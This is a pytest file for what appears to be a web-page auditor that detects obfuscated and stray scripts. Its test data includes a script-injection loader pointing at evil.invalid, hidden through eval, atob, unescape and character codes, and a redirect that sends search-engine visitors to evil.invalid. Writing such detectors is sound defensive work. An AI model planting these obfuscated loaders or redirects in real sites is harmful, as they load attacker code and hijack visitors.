"""What is kept of scripts: only those that hide what they do, and those outside of the document."""

from __future__ import annotations

import base64

import pytest

from auditor.facts import OddScript, ScriptTrait
from tests.extract.markup import page

T = ScriptTrait
LOADS = 'var s=document.createElement("script");s.src="https://evil.invalid/a.js";document.head.appendChild(s);'
EVIL = ("https://evil.invalid/a.js",)


def numbers(code: str) -> str:
    return f"String.fromCharCode({','.join(str(ord(sign)) for sign in code)})"


def escapes(code: str) -> str:
    return "".join(f"\\x{ord(sign):02x}" for sign in code)


def percent(code: str) -> str:
    return "".join(f"%{ord(sign):02X}" for sign in code)


def coded(code: str) -> str:
    return base64.b64encode(code.encode()).decode()


def kept(script: str) -> tuple[OddScript, ...]:
    return page(f"<html><body><p>ข้อความ</p><script>{script}</script></body></html>").odd_scripts


HIDING = [
    pytest.param(f"eval({numbers(LOADS)})", {T.RUNS_CODES, T.SPELLS}, EVIL, id="eval-of-numbers"),
    pytest.param(f"eval(unescape('{percent(LOADS)}'))", {T.RUNS_CODES, T.WRITES}, EVIL, id="eval-of-unescape"),
    pytest.param(f"eval(atob('{coded(LOADS)}'))", {T.RUNS_CODES, T.WRITES}, EVIL, id="eval-of-base64"),
    pytest.param(f"new Function(atob('{coded(LOADS)}'))()", {T.RUNS_CODES, T.WRITES}, EVIL, id="function-of-base64"),
    pytest.param(
        f"eval(unescape('{percent(f'eval({numbers(LOADS)})')}'))", {T.RUNS_CODES, T.SPELLS}, EVIL, id="codes-in-codes"
    ),
    pytest.param(
        f"var u=String.fromCharCode(104);s.src={numbers('https://evil.invalid/a.js')};",
        {T.SPELLS},
        EVIL,
        id="address-in-numbers",
    ),
    pytest.param(f'var _a=["{escapes("https://evil.invalid/a.js")}"];', {T.SPELLS}, EVIL, id="address-in-escapes"),
    pytest.param("eval(atob('AAAA'+part))", {T.RUNS_CODES}, (), id="codes-put-together"),
    pytest.param(
        "var _0x1a2b=['a'];(function(_0x2c3d,_0x4e5f){_0x1a2b[_0x2c3d](_0x4e5f);_0x1a2b(_0x2c3d)})();",
        {T.GARBLED},
        (),
        id="garbled",
    ),
    pytest.param(
        "if(/google|bing/.test(document.referrer)){window.location.href='https://evil.invalid/go'}",
        {T.BY_REFERRER},
        ("https://evil.invalid/go",),
        id="moves-searchers",
    ),
    pytest.param(
        f"document.write(unescape('{percent('<script src=//counter.invalid/c.js></script>')}'))",
        {T.WRITES},
        ("https://counter.invalid/c.js",),
        id="writes-a-counter",
    ),
]


@pytest.mark.parametrize(("script", "traits", "leads_to"), HIDING)
def test_a_script_that_hides_what_it_does_is_kept(
    script: str, traits: set[ScriptTrait], leads_to: tuple[str, ...]
) -> None:
    (odd,) = kept(script)
    assert (set(odd.traits), odd.leads_to) == (traits, leads_to)
    assert 0 < len(odd.excerpt) <= 120


GA = (
    """var gaJsHost=(("https:"==document.location.protocol)?"https://ssl.":"http://www.");document.write(unescape("""
    """"%3Cscript src='" + gaJsHost + "google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));"""
)
PLAIN = [
    pytest.param(GA, id="old-statistics"),
    pytest.param(
        "!function(e,t){var n=e.createElement('script');n.src='https://cdn.invalid/x.js'}(document);",
        id="plain-loader",
    ),
    pytest.param(
        "eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(c,k[c]);return p}('0',1,1,'a'.split('|'),0,{}))",
        id="packer",
    ),
    pytest.param("var s=document.referrer;if(s.indexOf('google')>0){track('search')}", id="statistics-of-search"),
    pytest.param("if(document.referrer==''){location.href='/home'}", id="moves-without-search"),
    pytest.param("var a=String.fromCharCode(3585);var e=eval('('+json+')');", id="a-letter-and-json"),
    pytest.param(
        f"eval(unescape('{percent('document.write(<a href=mailto:office@x.invalid>)')}'))", id="mail-against-robots"
    ),
    pytest.param(
        f"eval(unescape('{percent('document.oncontextmenu=function(){return false}')}'))", id="no-right-click"
    ),
    pytest.param('var o={"url":"https:\\/\\/evil.invalid\\/a.js","h":"_0xff"};', id="settings"),
]


@pytest.mark.parametrize("script", PLAIN)
def test_of_an_ordinary_script_nothing_is_kept(script: str) -> None:
    assert kept(script) == ()


@pytest.mark.parametrize(
    ("markup", "strays"),
    [
        pytest.param(
            "<html><body>ก</body></html><script src=https://a.invalid/x.js></script>",
            ("https://a.invalid/x.js",),
            id="after",
        ),
        pytest.param(
            "<script src='//a.invalid/x.js'></script><!DOCTYPE html><html><body>ก</body></html>",
            ("https://a.invalid/x.js",),
            id="before",
        ),
        pytest.param("<html><head><script src=/x.js></script></head><body>ก</body></html>\n", (), id="within"),
        pytest.param("<script src=/x.js></script><p>ก</p>", (), id="a-piece-of-a-page"),
    ],
)
def test_scripts_outside_of_the_document_are_told_apart(markup: str, strays: tuple[str, ...]) -> None:
    found = page(markup)
    assert found.stray_scripts == strays
    assert set(strays) <= set(found.scripts)


def test_only_so_many_are_kept() -> None:
    script = "<script>eval(atob('AAAA'+part))</script>"
    assert len(page(f"<p>ก</p>{script * 50}").odd_scripts) == 10
